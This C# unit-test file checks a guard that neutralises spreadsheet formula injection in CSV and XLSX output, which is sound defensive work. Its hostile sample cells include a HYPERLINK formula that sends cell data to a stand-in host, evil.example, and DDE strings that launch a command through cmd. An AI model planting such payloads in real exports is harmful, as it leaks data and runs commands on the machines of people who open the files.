using System.Text;
using FactoryPath.Core.Tabular;

namespace FactoryPath.Core.Tests.Tabular;

public sealed class FormulaGuardTests
{
    /// <summary>Cells that spreadsheets run as formulas (OWASP "CSV Injection": = + - @, tab, carriage return first).</summary>
    public static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
        "\t=1+1", "\r=1+1", "=1+1", "-12.5", "+86 574 8888 0000", "'=1+1", "''@SUM(1)",
    ];

    /// <summary>Text a spreadsheet shows as it is.</summary>
    public static readonly string[] Harmless = ["", "宁波模具厂", "A=B", " =1+1", "'quoted", "''", "'", "12.5", "1,000", "中=文", "＝1+1"];

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\")", "'=HYPERLINK(\"http://evil.example\")")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(1)", "'@SUM(1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("'=1", "''=1")]
    [InlineData("宁波模具厂", "宁波模具厂")]
    [InlineData("'quoted", "'quoted")]
    [InlineData(" =1", " =1")]
    [InlineData("", "")]
    public void Text_a_spreadsheet_would_run_gets_one_apostrophe(string text, string guarded)
    {
        Assert.Equal(guarded, FormulaGuard.Guard(text));
    }

    [Fact]
    public void Strip_undoes_guard_for_every_text()
    {
        foreach (var text in Hostile.Concat(Harmless))
        {
            Assert.Equal(text, FormulaGuard.Strip(FormulaGuard.Guard(text)));
        }
    }

    [Fact]
    public void Text_cells_are_guarded_in_the_line()
    {
        Assert.Equal("'=1+1,'@SUM(1),名称,\"'+a,b\",\"'\r=1\"", CsvWriter.Line(["=1+1", "@SUM(1)", "名称", "+a,b", "\r=1"]));
    }

    [Fact]
    public void Numbers_are_written_as_numbers_and_text_that_looks_like_one_is_text()
    {
        var line = CsvWriter.ValueLine([-12.5, -3L, 7, -0.25m, 1e-7, "-12.5", "=A1", null, "名称"]);

        Assert.Equal("-12.5,-3,7,-0.25,1E-07,'-12.5,'=A1,,名称", line);
    }

    [Theory]
    [InlineData(double.NaN)]
    [InlineData(double.PositiveInfinity)]
    public void A_number_a_spreadsheet_cannot_hold_is_refused(double value)
    {
        var error = Assert.Throws<ArgumentException>(() => CsvWriter.ValueLine(["a", value]));
        Assert.Contains("Cell 2", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_cell_that_is_neither_text_nor_number_is_refused()
    {
        var error = Assert.Throws<ArgumentException>(() => CsvWriter.ValueLine([new DateTime(2026, 1, 1)]));
        Assert.Contains("DateTime", error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("utf-8")]
    [InlineData("gb18030")]
    public void The_reader_reads_written_text_back_unchanged(string encoding)
    {
        var cells = Hostile.Concat(Harmless).ToList();
        using var stream = new MemoryStream();
        using (var writer = new CsvWriter(stream, TextEncodings.ForWriting(encoding)))
        {
            writer.WriteRow(["列"]);
            foreach (var cell in cells) writer.WriteRow([cell, "x"]);
            writer.WriteValues([-12.5, "-12.5"]);
        }

        var table = CsvReader.Read(stream.ToArray()).Table!;

        Assert.Equal(cells.Append("-12.5"), table.Rows.Select(r => r.Cells[0]));
        Assert.Equal("-12.5", table.Rows[^1].Cells[1]);
    }

    [Fact]
    public void No_written_text_cell_starts_with_a_formula_character()
    {
        foreach (var cell in Hostile)
        {
            var line = CsvWriter.Line([cell]);
            var field = line.StartsWith('"') ? line[1..] : line; // what a spreadsheet reads after the opening quote
            Assert.True(field[0] == FormulaGuard.Mark, $"{line} starts a cell a spreadsheet runs");
        }
    }

    [Fact]
    public void Xlsx_stores_formula_like_text_as_text_cells_without_a_formula()
    {
        using var table = new MemoryStream();
        XlsxTable.Write(table, ["名称"], Hostile.Select(h => (IReadOnlyList<string>)[h]));
        using var sheets = new MemoryStream();
        XlsxTable.WriteSheets(sheets, [new XlsxSheet("S", Hostile.Select(h => (IReadOnlyList<object?>)[h, -12.5]))]);

        // a carriage return reaches the sheet's XML unescaped, and XML reads it as a line feed (XML 1.0 §2.11)
        var stored = Hostile.Select(h => h.Replace('\r', '\n')).ToList();
        foreach (var (workbook, expected) in new[] { (table.ToArray(), stored.Prepend("名称")), (sheets.ToArray(), stored) })
        {
            var cells = XlsxPackage.Cells(workbook);
            var text = cells.Where(c => c.Reference.StartsWith('A')).ToList();
            Assert.All(text, c => Assert.True(c.IsText, $"{c.Reference} is stored as t={c.Type}, f={c.Formula}"));
            Assert.Equal(expected, text.Select(c => c.Text));
            Assert.All(cells.Where(c => c.Reference.StartsWith('B')), c => Assert.Equal(("-12.5", null), (c.Text, c.Formula)));
        }

        var read = XlsxTable.Read(new MemoryStream(table.ToArray())).Table!;
        Assert.Equal(stored, read.Rows.Select(r => r.Cells[0]));
    }
}
